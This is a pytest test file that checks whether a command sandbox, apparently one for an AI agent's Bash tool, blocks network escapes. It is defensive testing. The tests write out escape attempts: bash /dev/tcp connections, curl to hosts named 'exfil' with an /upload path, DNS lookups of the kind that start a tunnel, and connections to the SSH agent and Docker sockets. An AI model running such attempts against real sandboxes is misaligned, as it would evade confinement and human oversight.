"""Attacks on the network from Bash in Auto mode: the only way out is the session's proxies,
and they pass allowlisted host names only.

Everything stays on 127.0.0.1: the upstream servers listen on the host's loopback, and the
one outside address (203.0.113.1, TEST-NET-3) is only ever dialled from inside the sandbox's
empty network namespace, where it cannot leave.
"""

from __future__ import annotations

import contextlib
import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import TYPE_CHECKING

import pytest
from attack_helpers import (
    PY,
    Scene,
    build_scene,
    counting_server,
    needs_sandbox,
    refusals,
    refused_hosts,
    unique,
)

from fakes.web_server import Page, WebServer

if TYPE_CHECKING:
    from conftest import Harness

pytestmark = [
    needs_sandbox,
    pytest.mark.skipif(shutil.which("curl") is None, reason="the attacks use curl"),
]

GREETING = "hello from the host"
# curl through the session's proxies, even to names NO_PROXY would send direct.
VIA_PROXY = "NO_PROXY= no_proxy= curl -sS --max-time 10"
SOCKS = "127.0.0.1:${ALL_PROXY##*:}"


@pytest.fixture
def scene(harness: Harness, monkeypatch: pytest.MonkeyPatch) -> Iterator[Scene]:
    with build_scene(harness, monkeypatch) as built:
        yield built


@pytest.fixture
def web() -> Iterator[WebServer]:
    """An HTTP server on the host's 127.0.0.1, recording every request that reaches it."""
    with WebServer() as server:
        server.pages["/"] = Page(GREETING)
        yield server


def allow_localhost(scene: Scene) -> None:
    scene.settings('[network]\nallow = ["localhost"]\n')


# --- no direct way out -----------------------------------------------------------------------


async def test_direct_tcp_to_a_host_loopback_server_is_unreachable(scene: Scene) -> None:
    """curl, Python and bash's /dev/tcp straight to a server on the host's 127.0.0.1."""
    with counting_server() as server:
        port = server.port
        result = await scene.run(
            f"curl -sS --noproxy '*' --max-time 5 http://127.0.0.1:{port}/; "
            f"{PY} -c 'import socket; socket.create_connection((\"127.0.0.1\", {port}), 5)'; "
            f"(exec 3<>/dev/tcp/127.0.0.1/{port}) && echo connected"
        )
        assert server.accepted == 0
    assert "connected" not in result.output
    assert "Connection refused" in result.output


async def test_direct_tcp_to_an_outside_address_has_no_route(scene: Scene) -> None:
    """bash's /dev/tcp and curl to 203.0.113.1, bypassing the proxies."""
    result = await scene.run(
        "(exec 3<>/dev/tcp/203.0.113.1/80) && echo connected; "
        "curl -sS --noproxy '*' --max-time 5 http://203.0.113.1/"
    )
    assert "connected" not in result.output
    assert "Network is unreachable" in result.output


async def test_dns_lookup_fails(scene: Scene) -> None:
    """getent and Python resolving a name, the way DNS tunnels start."""
    result = await scene.run(
        "getent hosts example.com || echo unresolved; "
        f"{PY} -c 'import socket; print(socket.getaddrinfo(\"example.com\", 80))'"
    )
    assert "unresolved" in result.output
    assert "gaierror" in result.output


async def test_host_daemon_unix_socket_under_run_is_unreachable(scene: Scene) -> None:
    """Connect to a daemon's socket under /run (docker, D-Bus, ssh-agent live there)."""
    path = Path("/run") / f"{unique()}.sock"
    try:
        server = counting_server(unix_path=str(path))
    except OSError as exc:
        pytest.skip(f"cannot make a socket under /run here: {exc}")
    try:
        with server:
            result = await scene.run(
                f"ls /run; {PY} -c 'import socket, sys; "
                f"socket.socket(socket.AF_UNIX).connect(sys.argv[1])' {path}"
            )
            assert server.accepted == 0
    finally:
        with contextlib.suppress(FileNotFoundError):
            path.unlink()
    assert "FileNotFoundError" in result.output


async def test_host_abstract_unix_socket_is_unreachable(scene: Scene) -> None:
    """Connect to an abstract Unix socket on the host (they belong to a network namespace)."""
    name = unique()
    with counting_server(unix_path=f"\0{name}") as server:
        result = await scene.run(
            f"{PY} -c 'import socket; socket.socket(socket.AF_UNIX).connect(\"\\0{name}\")'"
        )
        assert server.accepted == 0
    assert "ConnectionRefusedError" in result.output


async def test_ssh_agent_socket_is_unreachable(
    scene: Scene, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Connect to the agent SSH_AUTH_SOCK names (it would sign in as the user anywhere)."""
    path = scene.root / "agent.sock"
    monkeypatch.setenv("SSH_AUTH_SOCK", str(path))
    with counting_server(unix_path=str(path)) as server:
        result = await scene.run(
            f"{PY} -c 'import socket, sys; "
            f"socket.socket(socket.AF_UNIX).connect(sys.argv[1])' {path}; echo SOCK=$SSH_AUTH_SOCK"
        )
        assert server.accepted == 0
    assert "ConnectionRefusedError" in result.output
    assert "SOCK=\n" in result.output + "\n"


async def test_docker_socket_in_home_is_unreachable(scene: Scene) -> None:
    """Connect to Docker's socket under ~/.docker (root on the host, in effect)."""
    path = scene.home / ".docker" / "run" / "docker.sock"
    path.parent.mkdir(parents=True)
    with counting_server(unix_path=str(path)) as server:
        result = await scene.run(
            f"{PY} -c 'import socket, sys; "
            f"socket.socket(socket.AF_UNIX).connect(sys.argv[1])' ~/.docker/run/docker.sock"
        )
        assert server.accepted == 0
    assert "ConnectionRefusedError" in result.output


# --- through the proxies, refused ---------------------------------------------------------------


async def test_connect_to_an_unlisted_host_is_refused(scene: Scene) -> None:
    """HTTPS (a CONNECT through the proxy) to a host not on the allowlist."""
    host = f"{unique('exfil')}.example"
    result = await scene.run(f"{VIA_PROXY} https://{host}/upload")
    assert "403" in result.output
    assert host in refused_hosts(scene.harness)


async def test_connect_to_an_ip_literal_is_refused(scene: Scene, web: WebServer) -> None:
    """CONNECT 127.0.0.1:<host port>, an IP address instead of a name."""
    result = await scene.run(f'{VIA_PROXY} -p -x "$HTTP_PROXY" http://127.0.0.1:{web.port}/')
    assert web.requests == []
    assert "403" in result.output
    assert [(r.host, r.protocol) for r in refusals(scene.harness)] == [("127.0.0.1", "http")]


async def test_absolute_form_get_to_an_ip_literal_is_refused(scene: Scene, web: WebServer) -> None:
    """A plain proxy request, GET http://127.0.0.1:<host port>/."""
    result = await scene.run(
        f"{VIA_PROXY} -w '\\nstatus %{{http_code}}\\n' -x \"$HTTP_PROXY\" "
        f"http://127.0.0.1:{web.port}/"
    )
    assert web.requests == []
    assert "status 403" in result.output
    assert GREETING not in result.output
    assert "127.0.0.1" in refused_hosts(scene.harness)


async def test_socks5_by_ip_literal_is_refused(scene: Scene, web: WebServer) -> None:
    """SOCKS5 with the address resolved by the client (curl --socks5, not -hostname)."""
    result = await scene.run(f"{VIA_PROXY} --socks5 {SOCKS} http://127.0.0.1:{web.port}/")
    assert web.requests == []
    assert GREETING not in result.output
    assert [(r.host, r.protocol) for r in refusals(scene.harness)] == [("127.0.0.1", "socks")]


async def test_socks5_by_an_unlisted_name_is_refused(scene: Scene) -> None:
    """SOCKS5 with a host name the allowlist does not have."""
    host = f"{unique('exfil')}.example"
    result = await scene.run(f"{VIA_PROXY} --socks5-hostname {SOCKS} http://{host}/")
    assert not result.ok
    assert [(r.host, r.protocol) for r in refusals(scene.harness)] == [(host, "socks")]


async def test_localhost_without_the_allow_line_is_refused(scene: Scene, web: WebServer) -> None:
    """http://localhost:<host port>/ through the proxy, localhost not allowlisted."""
    result = await scene.run(
        f"{VIA_PROXY} -w '\\nstatus %{{http_code}}\\n' http://localhost:{web.port}/"
    )
    assert web.requests == []
    assert "status 403" in result.output
    assert "localhost" in refused_hosts(scene.harness)


# --- through the proxies, allowed ---------------------------------------------------------------


async def test_allowlisted_localhost_is_reached_through_the_http_proxy(
    scene: Scene, web: WebServer
) -> None:
    """http://localhost:<host port>/ with localhost under [network] allow."""
    allow_localhost(scene)
    result = await scene.run(f"{VIA_PROXY} http://localhost:{web.port}/")
    assert GREETING in result.output
    assert [r.path for r in web.requests] == ["/"]
    assert refusals(scene.harness) == []


async def test_allowlisted_localhost_is_reached_through_connect(
    scene: Scene, web: WebServer
) -> None:
    """A CONNECT tunnel to localhost:<host port>, allowlisted."""
    allow_localhost(scene)
    result = await scene.run(f'{VIA_PROXY} -p -x "$HTTP_PROXY" http://localhost:{web.port}/')
    assert GREETING in result.output
    assert [r.path for r in web.requests] == ["/"]


async def test_allowlisted_localhost_is_reached_through_socks5(
    scene: Scene, web: WebServer
) -> None:
    """SOCKS5 (socks5h: the proxy resolves the name) to localhost:<host port>, allowlisted."""
    allow_localhost(scene)
    result = await scene.run(f'{VIA_PROXY} -x "$ALL_PROXY" http://localhost:{web.port}/')
    assert GREETING in result.output
    assert [r.path for r in web.requests] == ["/"]
    assert refusals(scene.harness) == []
